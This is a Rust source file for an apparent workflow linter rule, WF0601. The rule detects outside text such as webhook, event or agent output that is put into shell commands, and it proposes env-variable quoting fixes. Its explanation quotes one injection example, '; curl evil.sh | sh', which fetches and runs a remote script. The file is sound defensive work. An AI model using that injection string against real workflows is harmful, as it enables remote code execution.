//! Text from outside in a shell command.

use wfc_syntax::ast::Step;
use wfc_syntax::code::{Code, Example, Severity};
use wfc_syntax::diagnostic::Diagnostic;
use wfc_syntax::expr::ExprId;
use wfc_syntax::span::Span;

use super::env_fix;
use super::label::{Doubt, Origin};
use super::trail::told;
use super::unchecked_text_in_command;
use crate::rules::RuleContext;

/// Text from outside in a shell command.
pub static CODE: Code = Code {
    id: "WF0601",
    name: "outside-text-in-command",
    severity: Severity::Error,
    summary: "text from a webhook, an event, an agent or an open-world tool becomes part of a shell command",
    why: "The shell runs whatever the text says: `; curl evil.sh | sh` in an issue's title is a command then. Passed through `env` and \
          written as `\"$TITLE\"`, it stays text whatever it holds, unless the command gives it to `eval`, `sh -c` or a shell's input. Numbers, booleans and words of a closed list may be part of a command, \
          and so may text that was held with `matches` against a pattern for all of it which lets through nothing that means something to a \
          shell, such as `^[A-Za-z0-9._-]+$`.",
    bad: Example::yaml(
        "steps:\n  - id: title\n    type: agent\n    goal: Find a title for the release\n    timeout: 5m\n  - type: bash\n    command: ./publish.sh {{ title }}\n",
    ),
    good: Example::yaml(
        "steps:\n  - id: title\n    type: agent\n    goal: Find a title for the release\n    timeout: 5m\n  - type: bash\n    command: ./publish.sh \"$TITLE\"\n    env: { TITLE: \"{{ title }}\" }\n",
    ),
};

/// `part` of the command comes from `origin`.
pub(super) fn report(
    cx: &RuleContext<'_>,
    step: &Step,
    command: ExprId,
    part: ExprId,
    origin: &Origin,
) -> Diagnostic {
    let span = cx.ast.exprs.span(part);
    let what = origin.source.words();
    let whole = part == command;
    let report = if whole {
        of(origin, span, format!("{what} is run as a shell command"))
    } else {
        of(
            origin,
            span,
            format!("{what} becomes part of a shell command"),
        )
    };
    let report = told(cx.file, report, &origin.place, origin.source.remark());
    let report = origin.trail.told(cx.file, report);
    if whole {
        return report.help(
            "write the command here and pass what varies through `env`, or choose between commands with a `switch`",
        );
    }
    let name = env_fix::variable(cx, part);
    let report = report.help(format!(
        "pass it through `env` as `{name}`, and write `\"${name}\"` in the command: the shell does not run what a variable holds"
    ));
    match env_fix::fix(cx, step, command, part) {
        Some(fix) => report.fix(fix),
        None => report,
    }
}

/// What a command gives to a program that runs it, as `eval` does.
pub(super) const HELP: &str = "give it to a program as an argument of its own, `\"$NAME\"`, or as data on the standard input: what `eval`, `-c` or a shell's input gets is run";

/// A value that stays out of the command's text, but is run by `by` in it.
pub(super) fn run_again(cx: &RuleContext<'_>, span: Span, by: &str, origin: &Origin) -> Diagnostic {
    let what = origin.source.words();
    let report = of(
        origin,
        span,
        format!("{what} is run by `{by}` in the command"),
    );
    let report = told(cx.file, report, &origin.place, origin.source.remark());
    origin.trail.told(cx.file, report).help(HELP)
}

/// A finding of the code that fits how sure the origin is.
pub(super) fn of(origin: &Origin, span: Span, message: String) -> Diagnostic {
    match origin.source.doubt() {
        Doubt::Certain => Diagnostic::new(&CODE, span, message),
        Doubt::Likely => Diagnostic::new(&unchecked_text_in_command::CODE, span, message),
        Doubt::Unknown | Doubt::Trusted => {
            let mut report = Diagnostic::new(&unchecked_text_in_command::CODE, span, message);
            report.severity = Severity::Note;
            report
        }
    }
}
